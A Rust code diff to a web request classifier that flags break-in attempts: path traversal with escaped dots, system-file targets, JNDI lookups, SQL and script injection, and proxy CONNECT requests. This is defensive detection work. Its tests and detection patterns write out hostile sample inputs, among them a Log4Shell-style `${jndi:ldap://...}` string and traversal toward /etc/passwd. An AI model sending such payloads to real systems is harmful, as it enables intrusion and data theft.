@@ -27,6 +27,15 @@ static FOREIGN_ENDINGS: LazyLock<Vec<&str>> =
 /// Marks of injection: SQL, script, template, shell, naming services, PHP wrappers.
 static INJECTION: &str = include_str!("lists/injection.txt");
 
+/// Payloads of break-ins, anywhere: look-ups and class loaders of known holes, commands, wrappers.
+static PAYLOADS: &str = include_str!("lists/payloads.txt");
+
+/// What only a break-in has in its path: files of the system below, names of planted shells.
+static PAYLOAD_PATHS: &str = include_str!("lists/payload_paths.txt");
+
+/// Paths of published holes, as far as no other software answers there.
+static HOLES: &str = include_str!("lists/holes.txt");
+
 /// Names that polite machines ask for.
 static POLITE: &str = include_str!("lists/polite.txt");
 
@@ -74,22 +83,27 @@ static IN_PATH: LazyLock<Finder> = LazyLock::new(|| {
         (SENSITIVE, PathWords::SENSITIVE_FILE),
         (FOREIGN, PathWords::FOREIGN),
         (POLITE, PathWords::POLITE),
+        (PAYLOAD_PATHS, PathWords::EXPLOIT),
+        (HOLES, PathWords::HOLE),
     ])
 });
 
+/// A payload is an injection as well.
+const PAYLOAD: PathWords = PathWords::EXPLOIT.union(PathWords::INJECTION);
+
 static ANYWHERE: LazyLock<Finder> =
-    LazyLock::new(|| Finder::new(&[(INJECTION, PathWords::INJECTION)]));
+    LazyLock::new(|| Finder::new(&[(INJECTION, PathWords::INJECTION), (PAYLOADS, PAYLOAD)]));
 
 /// What a target's words say. `path` and `query` are as written, escapes and all.
 pub(crate) fn path_words(method: Method, path: &[u8], query: &[u8]) -> PathWords {
     let once = percent_decode(path);
     let decoded = percent_decode(&once);
     let mut words = IN_PATH.classes_in(&decoded);
-    words.set_if(PathWords::TRAVERSAL, climbs(&decoded));
+    words = words.union(climbing(path, &decoded)).union(ANYWHERE.classes_in(&decoded));
+    words.set_if(PathWords::HOLE, method == Method::Connect || asks_elsewhere(path));
     words.set_if(PathWords::SENSITIVE_FILE, ends_in(&decoded, &SENSITIVE_ENDINGS));
     words.set_if(PathWords::FOREIGN, ends_in(&decoded, &FOREIGN_ENDINGS));
     words.set_if(PathWords::ASSET, has_static_extension(&decoded));
-    words.set_if(PathWords::INJECTION, has_injection(&decoded));
     for segment in decoded.split(|byte| *byte == b'/') {
         words.set_if(PathWords::ADMIN, ADMIN.contains(segment));
         words.set_if(PathWords::SIGN_IN, SIGN_IN.contains(segment) && signs_in(method, segment));
@@ -99,8 +113,7 @@ pub(crate) fn path_words(method: Method, path: &[u8], query: &[u8]) -> PathWords
             query.iter().map(|byte| if *byte == b'+' { b' ' } else { *byte }).collect();
         let once = percent_decode(&spaced);
         let decoded = percent_decode(&once);
-        words.set_if(PathWords::INJECTION, has_injection(&decoded));
-        words.set_if(PathWords::TRAVERSAL, climbs(&decoded));
+        words = words.union(climbing(query, &decoded)).union(ANYWHERE.classes_in(&decoded));
     }
     words
 }
@@ -121,8 +134,41 @@ fn climbs(text: &[u8]) -> bool {
     dots || memchr::memchr(0, text).is_some() || memchr::memmem::find(text, b"%c0%af").is_some()
 }
 
-fn has_injection(text: &[u8]) -> bool {
-    ANYWHERE.automaton.is_match(text)
+/// Climbing out of the root, and whether it is no accident: dots that somebody took the trouble to
+/// escape or to hide from a proxy, more steps than a broken link has, or a file of the system.
+fn climbing(written: &[u8], decoded: &[u8]) -> PathWords {
+    const LEAST_STEPS: usize = 4;
+    const GOALS: [&[u8]; 4] = [b"etc/passwd", b"bin/sh", b"win.ini", b"proc/self"];
+    // Nearly no path has two dots in a row, and no escape of them.
+    let plain = memchr::memmem::find(decoded, b"..").is_none();
+    if plain && memchr::memchr(0, decoded).is_none() && memchr::memchr(b'%', written).is_none() {
+        return PathWords::empty();
+    }
+    let mut words = PathWords::empty();
+    words.set_if(PathWords::TRAVERSAL, climbs(decoded));
+    if words.is_empty() {
+        return words;
+    }
+    let lower = written.to_ascii_lowercase();
+    let has = |part: &[u8]| memchr::memmem::find(&lower, part).is_some();
+    let hidden =
+        [&b"%2e"[..], b"%252e", b"..%2f", b"..%5c", b"..;", b"%c0%ae"].into_iter().any(has);
+    let steps = memchr::memmem::find_iter(decoded, b"..").count();
+    let goal = GOALS.iter().any(|goal| memchr::memmem::find(decoded, goal).is_some());
+    words.set_if(PathWords::EXPLOIT, hidden || steps >= LEAST_STEPS || goal);
+    words
+}
+
+/// Whether a target names another scheme and host in full: what a client asks of a proxy.
+fn asks_elsewhere(path: &[u8]) -> bool {
+    path.first() != Some(&b'/') && memchr::memmem::find(path, b"://").is_some()
+}
+
+/// Whether a header's text carries the payload of a break-in.
+pub(crate) fn carries_payload(text: &[u8]) -> bool {
+    // All payloads that go into headers have one of these.
+    memchr::memchr3(b'$', b'{', b'<', text).is_some()
+        && ANYWHERE.classes_in(text).contains(PathWords::EXPLOIT)
 }
 
 fn ends_in(path: &[u8], endings: &[&str]) -> bool {
@@ -181,14 +227,30 @@ mod tests {
         check(Method::Get, "/.env", PathWords::SENSITIVE_FILE);
         check(Method::Get, "/%2egit/config", PathWords::SENSITIVE_FILE);
         check(Method::Get, "/dump/site.tar.gz", PathWords::SENSITIVE_FILE);
-        check(Method::Get, "/a/%252e%252e/%252e%252e/b", PathWords::TRAVERSAL);
-        check(Method::Get, "/a?file=..%5C..%5Cx", PathWords::TRAVERSAL);
+        check(Method::Get, "/a/../b", PathWords::TRAVERSAL);
+        check(Method::Get, "/a?file=../x", PathWords::TRAVERSAL);
         check(Method::Get, "/admin/users", PathWords::ADMIN);
         check(Method::Get, "/a?id=1%27%20OR%201=1--", PathWords::INJECTION);
         check(Method::Get, "/a?q=%3Cscript%3E", PathWords::INJECTION);
-        check(Method::Get, "/a?x=${jndi:ldap://h/a}", PathWords::INJECTION);
         check(Method::Get, "/index.php", PathWords::FOREIGN);
         check(Method::Get, "/static/app.js", PathWords::ASSET);
         check(Method::Get, "/robots.txt", PathWords::POLITE);
+    }
+
+    #[test]
+    fn a_break_in_is_told_from_a_broken_link() {
+        let exploit = PathWords::EXPLOIT;
+        let climbs = exploit.union(PathWords::TRAVERSAL);
+        check(Method::Get, "/a/%252e%252e/%252e%252e/b", climbs);
+        check(Method::Get, "/a?file=..%5C..%5Cx", climbs);
+        check(Method::Get, "/a?file=../../../../x", climbs);
+        check(Method::Get, "/a/..;/b", climbs);
+        check(Method::Get, "/a?x=${jndi:ldap://h/a}", exploit.union(PathWords::INJECTION));
+        check(Method::Get, "/_/;/WEB-INF/b", exploit.union(PathWords::SENSITIVE_FILE));
+        check(Method::Connect, "mail.example:25", PathWords::HOLE);
+        check(Method::Get, "/boaform/x", PathWords::HOLE.union(PathWords::FOREIGN));
+        // A file of the system as the value of a parameter may be a text that is searched for.
+        check(Method::Get, "/search?q=/etc/passwd", PathWords::INJECTION);
+        assert!(carries_payload(b"${jndi:ldap://h/a}") && !carries_payload(b"Mozilla/5.0 {x}"));
     }
 }
